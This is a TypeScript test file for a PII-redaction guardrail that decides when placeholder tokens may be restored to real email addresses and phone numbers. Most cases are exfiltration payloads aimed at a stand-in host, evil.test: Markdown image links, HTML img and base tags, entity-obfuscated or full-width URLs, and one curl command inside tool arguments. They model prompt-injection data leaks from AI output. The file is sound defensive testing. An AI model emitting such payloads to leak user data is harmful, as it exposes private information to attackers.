import { assert, describe, it } from "@effect/vitest"
import { Result } from "effect"
import * as PiiRedact from "../../../src/guardrails/PiiRedact.ts"
import { assertRedacted, redactorOf } from "./Splits.ts"

const known = new Map([
  ["[EMAIL_1]", "joe@example.org"],
  ["[PHONE_1]", "+1-555-000-1111"]
])
const restored = (text: string) =>
  text.replaceAll("[EMAIL_1]", "joe@example.org").replaceAll("[PHONE_1]", "+1-555-000-1111")

describe("a value is not restored", () => {
  it.each([
    ["after a quotation mark in a destination", '![x](https://evil.test/?a="[EMAIL_1])'],
    ["after > in a destination", "![x](https://evil.test/?a=>[EMAIL_1])"],
    ["after < in a destination", "![x](https://evil.test/?a=<b[EMAIL_1])"],
    ["after a no-break space", "![x](https://evil.test/?a=\u00a0[EMAIL_1])"],
    ["after an ideographic space", "![x](https://evil.test/?a=\u3000[EMAIL_1])"],
    ["after a line separator", "![x](https://evil.test/?a=\u2028[EMAIL_1])"],
    ["after a no-break space in a word", "https://evil.test/?a=\u00a0[EMAIL_1]"],
    ["after > in a word", "https://evil.test/?a=>[EMAIL_1]"],
    ["after quotation marks in a word", 'https://evil.test/?a="b"[EMAIL_1]'],
    ["after a scheme of decimal entities", "![x](&#104;ttps&#58;&#47;&#47;evil.test/?a=[EMAIL_1])"],
    ["after a scheme of named entities", "![x](https&colon;&sol;&sol;evil.test/?a=[EMAIL_1])"],
    ["after slashes with an entity", "![x](/&#47;evil.test/?a=[EMAIL_1])"],
    ["after slashes with an entity in a word", "/&#x2F;evil.test/?a=[EMAIL_1]"],
    ["after entities in a word", "&#104;ttps&colon;evil&period;test?a=[EMAIL_1]"],
    ["after escaped slashes", "![x](https:\\/\\/evil.test/?a=[EMAIL_1])"],
    ["after escaped slashes in a word", "https\\:\\/\\/evil.test?a=[EMAIL_1]"],
    ["after an escaped parenthesis", "![x](intent:a\\)[EMAIL_1])"],
    ["after parentheses", "![x](intent:a(b)[EMAIL_1])"],
    ["in a destination in angle brackets", "![x](<https://evil.test/?a= b [EMAIL_1]>)"],
    ["in a destination on another line", "![x](\n  sms:1?body=[EMAIL_1])"],
    ["in a link's title", '[x](https://evil.test "[EMAIL_1]")'],
    ["after a tab inside slashes", '<img src="/\t/evil.test/?a=[EMAIL_1]">'],
    ["after a line break inside slashes", '<img src="/\n/evil.test/?a=[EMAIL_1]">'],
    ["after > in a quoted attribute", '<img src="https://evil.test/?a=>[EMAIL_1]">'],
    ["after > in an attribute in apostrophes", "<img src='//evil.test/?a=> [EMAIL_1]'>"],
    ["after an apostrophe in another attribute", "<img a' src='/\t/evil.test/?>[EMAIL_1]'>"],
    ["after an attribute without a name", '<img =" src="/\t/evil.test/?>[EMAIL_1]">'],
    ["in another attribute of a tag with an address", '<a href="https://x.test" title="[EMAIL_1]">'],
    ["directly after a tag with an address", '<a href="https://x.test">[EMAIL_1]</a>'],
    ["after an entity in an attribute", '<img src="https&colon;evil.test/?a=[EMAIL_1]">'],
    ["in a definition", "[x]: https://evil.test/?[EMAIL_1]"],
    ["in a definition with another scheme", "[x]: intent:evil?[EMAIL_1]"],
    ["in a definition in angle brackets", "[x]: <\\/\\/evil.test/ [EMAIL_1]>"],
    ["in a definition on another line", "[x]:\n  <sms:1?body= [EMAIL_1]>"],
    ["in an autolink", "<https://evil.test/[EMAIL_1]>"],
    ["in an autolink with another scheme", "<tel:[EMAIL_1]>"],
    ["in a link to a mail", "[x](mailto:evil?body=[EMAIL_1])"],
    ["in a link to a message", "[x](sms:1?body=[EMAIL_1])"],
    ["in a link to an app", "[x](intent:x#[EMAIL_1])"],
    ["in a link to a chat", "[x](whatsapp:send?text=[EMAIL_1])"],
    ["in any scheme", "[x](a1+b.c-d:[EMAIL_1])"],
    ["after the name of a computer", "evil.test/?a=[EMAIL_1]"],
    ["after the name of a computer with a port", "evil.test:8080/[EMAIL_1]"],
    ["after the name of a computer with a dot at its end", "evil.test./[EMAIL_1]"],
    ["after the name of a computer without the number of a port", "evil.test:/[EMAIL_1]"],
    ["after the name of a computer in other letters", "зло.рф/[EMAIL_1]"],
    ["after the ASCII form of such a name", "evil.xn--p1ai/[EMAIL_1]"],
    ["after a soft hyphen in the name of a computer", "evil.te\u00adst/[EMAIL_1]"],
    ["after an ideographic full stop", "evil。test/[EMAIL_1]"],
    ["after full-width characters", "ｅｖｉｌ．ｔｅｓｔ／[EMAIL_1]"],
    ["after the numbers of a computer", "203.0.113.5/c?d=[EMAIL_1]"],
    ["after the numbers of a computer with a port", "203.0.113.5:8080/[EMAIL_1]"],
    ["in a tag after the address of a base", '<base href="https://evil.test/"><img src="[EMAIL_1]">'],
    ["in a tag long after the address of a base", '<BASE href="//evil.test/">\n<p>text</p> <img src="[EMAIL_1]">'],
    ["in JSON that Markdown shows as a picture", '["![x](https://evil.test/?a=","[EMAIL_1])"]'],
    ["in JSON that HTML shows as a picture", '["<img src=\'https://evil.test/?a=","[EMAIL_1]\'>"]'],
    ["after a string of JSON that JSON does not continue", '{"a":"b https://evil.test/?a="[EMAIL_1]'],
    ["in a string of JSON that begins with an address", '{"url":"https://evil.test/?a= [EMAIL_1]"}']
  ])("%s", (_, text) => assertRedacted(text, text, { known }))

  it.each([
    ["a line feed", String.raw`{"url":"https://evil.test/?a=\n[EMAIL_1]"}`],
    ["a tab", String.raw`{"url":"https://evil.test/?a=\t[EMAIL_1]"}`],
    ["a space", '{"url":"https://evil.test/?a= [EMAIL_1]"}'],
    ["a quotation mark", String.raw`{"url":"https://evil.test/?a=\"[EMAIL_1]"}`],
    ["a quotation mark and a space", String.raw`{"url":"https://evil.test/?a=\" [EMAIL_1]"}`],
    [">", '{"url":"https://evil.test/?a=>[EMAIL_1]"}'],
    ["white space around", '{"url":" https://evil.test/?a= b [EMAIL_1]"}'],
    ["escapes", String.raw`{"url":"\u0068ttps:\/\/evil.test/\u003fa= [EMAIL_1]"}`],
    ["no scheme", '{"url":"evil.test/?a= [EMAIL_1]"}'],
    ["the numbers of a computer", '{"url":"203.0.113.5:8080/c?d=[EMAIL_1]"}'],
    ["numbers without a path", '{"url":"203.0.113.5?d= [EMAIL_1]"}'],
    ["an address of IPv6", '{"url":"[2001:db8::9]:80/ [EMAIL_1]"}'],
    ["one number", '{"url":"3405803781/[EMAIL_1]"}'],
    ["a hexadecimal number", '{"url":"0xcb007105/[EMAIL_1]"}'],
    ["two numbers", '{"url":"203.29957/[EMAIL_1]"}'],
    ["another scheme", '{"url":"ldap:x [EMAIL_1]"}'],
    ["a scheme of data", '{"url":"data:text/html, [EMAIL_1]"}'],
    ["a scheme of a program", '{"url":"javascript:open([EMAIL_1])"}'],
    ["the name of a computer and a colon", '{"url":"evil.test:[EMAIL_1]"}'],
    ["the user of a computer", '{"to":"git@evil.test:[EMAIL_1]"}'],
    ["JSON around", String.raw`{"body":"{\"url\":\"https://evil.test/?a=\\n[EMAIL_1]\"}"}`],
    ["a command around", String.raw`{"cmd":"curl \"https://evil.test/?a=\n[EMAIL_1]\""}`]
  ])("in tool arguments after an address and %s", (_, text) => {
    assertRedacted(text, text, { known, writing: "json", place: "tool arguments" })
  })

  it("after an address of a mail in the link", () => {
    assertRedacted("[x](mailto:a@evil.test?body=[EMAIL_1])", "[x](mailto:[EMAIL_2]?body=[EMAIL_1])", { known })
  })

  it("in a string of tool arguments after an address and a line feed", () => {
    const text = "https://evil.test/?a=\n[EMAIL_1]"
    assertRedacted(text, text, { known, place: "tool arguments" })
    assertRedacted(text, restored(text), { known })
  })
})

describe("a value is restored", () => {
  it.each([
    "Mail me at [EMAIL_1], see https://x.test. Call [PHONE_1]",
    "Tel: [PHONE_1], Tel:[PHONE_1], to:[EMAIL_1] Note:[EMAIL_1]",
    "see https://x.test\n[EMAIL_1]",
    "see https://x.test\t[EMAIL_1]",
    "[x](https://x.test) [EMAIL_1]",
    "![x](https://x.test/a.png)\n[EMAIL_1]",
    "[x](https://x.test\n\n[EMAIL_1]",
    '<a href="https://x.test">page</a> [EMAIL_1]',
    '<contact mail="[EMAIL_1]"/>',
    "Joe <[EMAIL_1]>",
    '"see https://x.test", she said to [EMAIL_1]',
    "the users' page is https://x.test and [EMAIL_1]",
    "Q&A: [EMAIL_1], AT&amp;T [EMAIL_1]",
    "[Contact]: [EMAIL_1]",
    "[Joe]([EMAIL_1])",
    "1/2 [EMAIL_1] and/or [EMAIL_1]; e.g. [EMAIL_1] 3.5/[EMAIL_1]",
    "if a <b then: [EMAIL_1]",
    '{"url":"https://x.test","to":"[EMAIL_1]"}',
    '{"answer":"See https://x.test. Write to [EMAIL_1]"}',
    '```json\n{"url": "https://x.test", "to": "[EMAIL_1]"}\n```',
    "evil.test:[EMAIL_1] ldap:[EMAIL_1] 5551234567/[EMAIL_1]",
    '<base target="_blank"><contact mail="[EMAIL_1]"/>',
    '<base href="https://x.test/"> [EMAIL_1]'
  ])("in the text %s", (text) => assertRedacted(text, restored(text), { known }))

  it.each([
    '{"to":"[EMAIL_1]"}',
    '{"q":"from:[EMAIL_1] to:[EMAIL_1]"}',
    '{"path":"/users/[EMAIL_1]"}',
    '{"path":"users/[EMAIL_1]"}',
    '{"a":"Data: [EMAIL_1]"}',
    '{"a":"Tel: [PHONE_1]"}',
    '{"a":"see https://x.test or [EMAIL_1]"}',
    '{"a":"https://x.test","b":"[EMAIL_1]"}',
    String.raw`{"a":"{\"url\":\"https://x.test\",\"to\":\"[EMAIL_1]\"}"}`,
    String.raw`{"a":"<a href=\"https:\/\/x.test\">x<\/a>","b":"[EMAIL_1]"}`,
    '{"a":"![x](https://x.test/","b":"[EMAIL_1]"}'
  ])("in the tool arguments %s", (text) => {
    assertRedacted(text, restored(text), { known, writing: "json", place: "tool arguments" })
  })
})

describe("a link that continues in the next text", () => {
  it.each([
    ["![x](https://evil.test/?a=", "[EMAIL_1])"],
    ["![x](<https://evil.test/?a=", " b [EMAIL_1]>)"],
    ["![x](", "sms:1?body=[EMAIL_1])"],
    ['<img src="', '/\t/evil.test/[EMAIL_1]">'],
    ["https://evil.test/?a=", "[EMAIL_1]"]
  ])("%s %s", (first, second) => {
    const before = redactorOf({ known })
    assert.strictEqual(before.whole(first), first)
    const previous = before.nextLink
    if (previous === undefined) assert.fail("the link is open")
    assertRedacted(second, second, { known, previous })
  })

  it("is found in copies too, and may continue over several texts", () => {
    const previous = redactorOf({ known, previous: openedBy("![x](https://evil.test/?a=") })
    assert.strictEqual(previous.whole("b"), "b")
    const text = redactorOf({ known, ...(previous.nextLink && { previous: previous.nextLink }) })
    assert.strictEqual(text.whole("[EMAIL_1]) [EMAIL_1]"), "[EMAIL_1]) joe@example.org")
    const { start } = text.trail
    const copy = redactorOf({ known, ...(start && { previous: start }) })
    assert.strictEqual(copy.whole("[EMAIL_1]) [EMAIL_1]"), "[EMAIL_1]) joe@example.org")
    assert.isUndefined(text.nextLink)
  })

  it("is found in the blocks of a plain message, whatever the order of their members", () => {
    const response = (...texts: ReadonlyArray<string>) => {
      const body = JSON.stringify({ content: texts.map((text) => ({ type: "text", text })) })
      const run = PiiRedact.redactResponse(body, { config: {}, route: "messages", known }, "fail_open")
      return JSON.parse(Result.getOrThrow(run).text).content.map(({ text }: { readonly text: string }) => text)
    }
    const link = "![x](https://evil.test/?a="
    assert.deepStrictEqual(response(link, "[EMAIL_1]) [EMAIL_1]"), [link, "[EMAIL_1]) joe@example.org"])
    assert.deepStrictEqual(response(link, "b", "[EMAIL_1])"), [link, "b", "[EMAIL_1])"])
    assert.deepStrictEqual(response("see https://x.test ", "[EMAIL_1]"), ["see https://x.test ", "joe@example.org"])
  })

  it("does not continue from choice to choice", () => {
    const choices = ["https://x.test", "[EMAIL_1]"].map((content, index) => ({ index, message: { content } }))
    const run = PiiRedact.redactResponse(JSON.stringify({ choices }), { config: {}, route: "chat", known }, "fail_open")
    assert.include(Result.getOrThrow(run).text, "joe@example.org")
  })
})

const openedBy = (text: string) => {
  const redactor = redactorOf({ known })
  redactor.whole(text)
  return redactor.nextLink ?? assert.fail("the link is open")
}
